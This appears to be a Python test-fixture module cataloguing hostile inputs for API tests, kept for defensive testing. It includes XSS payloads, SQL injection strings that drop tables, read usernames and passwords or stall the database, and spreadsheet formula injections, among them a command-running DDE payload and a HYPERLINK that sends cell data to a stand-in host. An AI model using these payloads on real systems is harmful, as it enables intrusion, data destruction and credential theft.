"""The hostile-input catalogue: values every surface must survive (reused by API tests)."""

from __future__ import annotations

import re

MARKER = "zqxss"  # a searchable word carried by every stored payload
XSS = f'{MARKER} <script>alert("{MARKER}")</script> "\'><img src=x onerror=alert(1)> {MARKER}'
XSS_SHORT = '"><svg onload=alert(1)>'
# What must never appear in a page: the payloads' markup, live.
LIVE_MARKUP = re.compile(r"<script>alert|<img src=x onerror|<svg onload|javascript:alert", re.I)

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]  # fmt: skip

SQL = [
    "' OR '1'='1",
    "1; DROP TABLE archive_article; --",
    "%' UNION SELECT username, password FROM auth_user --",
    "\\'; SELECT pg_sleep(5); --",
    "1) OR (1=1",
]
UNICODE = [
    "Wałęsa",
    "Wa\u0142e\u0328sa",  # ę as e + combining ogonek (NFD)
    "Ceaușescu",  # ș U+0219
    "Ceauşescu",  # ş U+015F
    "Trotsky’s",
    "\u202eevil\u202c",  # right-to-left override
    "ثورة",  # Arabic (RTL)
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",  # stacked combining marks
    "\ufeffbom",
    "🚩🚩",
    "\u200b\u200d",  # zero-width space and joiner
]
DATES = ["0000", "-1", "99999", "1989-13-45", "1989-02-30", "１９８９", "1e3", "NaN",
         "2147483648", "9" * 40, "1989/1988", "..", "X"]  # fmt: skip
NUMBERS = ["-1", "0", "1e9", "10" * 20, "NaN", "inf", "1.5", "0x10", "１"]
HUGE = "a" * 20_000
EVERYTHING = [*SQL, *UNICODE, *DATES, *NUMBERS, HUGE, XSS, *FORMULAS, "", " ", "%", "_", "*"]
